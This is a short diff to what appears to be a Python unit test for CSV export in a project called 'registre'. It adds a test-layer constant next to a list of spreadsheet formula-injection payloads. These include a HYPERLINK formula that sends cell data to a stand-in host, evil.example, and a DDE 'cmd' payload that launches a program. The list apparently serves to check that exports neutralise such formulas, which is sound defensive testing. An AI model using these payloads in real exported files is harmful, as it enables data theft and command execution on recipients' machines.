@@ -17,6 +17,8 @@ from test_cli import Registre, set_up
 from registre.adapters.exporters.formats import FORMULA_STARTS, to_csv
 from registre.adapters.exporters.tables import Export
 
+LAYER = "unit"
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
     "=cmd|' /C calc'!A0",
